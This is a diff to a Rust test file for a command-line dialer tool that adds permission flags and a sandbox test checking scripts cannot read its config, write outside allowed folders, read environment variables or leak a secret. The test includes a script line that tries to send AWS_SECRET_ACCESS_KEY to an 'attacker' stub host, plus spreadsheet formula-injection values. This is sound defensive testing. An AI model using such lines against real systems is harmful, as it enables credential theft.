@@ -400,8 +400,10 @@ fn files_with_lead_data_are_private_whatever_existed_before() {
     std::fs::write(&audit, "").unwrap();
     std::fs::set_permissions(&audit, std::fs::Permissions::from_mode(0o644)).unwrap();
     let journal = home.join("import.journal");
+    let allow = format!("--allow-write={}", home.display());
     let (code, _, stderr) = output(tdc_on(&sandbox, &home).args([
         "--yes",
+        &allow,
         "eval",
         &format!(
             "td.add_leads([#{{ phone: \"447700000004\", original_identifier: \"p-1\" }}], #{{ journal: \"{}\" }}).len()",
@@ -417,6 +419,7 @@ fn files_with_lead_data_are_private_whatever_existed_before() {
     let csv = home.join("leads.csv");
     let (code, _, stderr) = output(tdc_on(&twin, &home).args([
         "--yes",
+        &allow,
         "eval",
         &format!(
             "td.add_leads([#{{ phone: \"447700000005\", first_name: \"=HYPERLINK(1)\" }}]); write_csv([#{{ a: \"=1+2\", b: -5, c: \"@x\" }}], \"{}\", #{{ excel_safe: true }})",
@@ -472,4 +475,73 @@ fn the_twin_refuses_a_public_address_unless_asked() {
     let (code, _, stderr) = output(tdc(&home).args(["sandbox", "--addr", "0.0.0.0:0"]));
     assert_eq!(code, 2);
     assert!(stderr.contains("pass --public"), "{stderr}");
+}
+
+#[test]
+fn scripts_have_bounded_powers() {
+    let (attacker, seen, _runtime) = recording_stub(|_| json(r#"{"campaigns": []}"#));
+    let home = temp_dir("powers");
+    let config = write_config(&home, "[profiles.p]\nurl = \"https://dialer.example\"\n");
+    let outside = temp_dir("powers-outside");
+    let eval = |extra: &[&str], code: &str| {
+        output(
+            tdc(&home)
+                .args(["--sandbox", "eval"])
+                .args(extra)
+                .arg(code)
+                .env("AWS_SECRET_ACCESS_KEY", "aws-secret-7"),
+        )
+    };
+    // tdc's own files, whatever is allowed.
+    let read_config = format!("read_csv(\"{}\")", config.display());
+    for extra in [&[][..], &["--allow-all"][..]] {
+        let (code, _, stderr) = eval(extra, &read_config);
+        assert_eq!(code, 1);
+        assert!(stderr.contains("one of tdc's own files"), "{stderr}");
+    }
+    // Files outside the script's folder and the working directory.
+    let target = outside.join("out.csv");
+    let write = format!("write_csv([#{{ a: 1 }}], \"{}\")", target.display());
+    let (code, _, stderr) = eval(&[], &write);
+    assert_eq!(code, 1);
+    assert!(
+        stderr.contains(&format!(
+            "allow it with --allow-write {}",
+            outside.canonicalize().unwrap().display()
+        )),
+        "{stderr}"
+    );
+    assert!(!target.exists());
+    let allow = format!("--allow-write={}", outside.display());
+    let (code, _, stderr) = eval(&[&allow], &write);
+    assert_eq!(code, 0, "{stderr}");
+    assert!(target.exists());
+    // The environment.
+    let (code, _, stderr) = eval(&[], "env(\"HOME\")");
+    assert_eq!(code, 1);
+    assert!(
+        stderr.contains("allow it with --allow-env HOME"),
+        "{stderr}"
+    );
+    let (code, stdout, _) = eval(&["--allow-env=HOME"], "env(\"HOME\")");
+    assert_eq!(code, 0);
+    assert!(stdout.contains("tdc-test"), "{stdout}");
+    // A secret sent to a host of the script's choosing.
+    let steal = format!(
+        "dialer(#{{ url: \"{attacker}\", user: \"x\", password_env: \"AWS_SECRET_ACCESS_KEY\" }}).campaigns()"
+    );
+    let (code, _, stderr) = eval(&[], &steal);
+    assert_eq!(code, 1);
+    assert!(stderr.contains("--allow-net 127.0.0.1"), "{stderr}");
+    let (code, _, stderr) = eval(&["--allow-net=127.0.0.1"], &steal);
+    assert_eq!(code, 1);
+    assert!(
+        stderr.contains("--allow-env AWS_SECRET_ACCESS_KEY"),
+        "{stderr}"
+    );
+    assert!(
+        seen.lock().unwrap().is_empty(),
+        "nothing reached the attacker"
+    );
+    assert!(!stderr.contains("aws-secret-7"));
 }
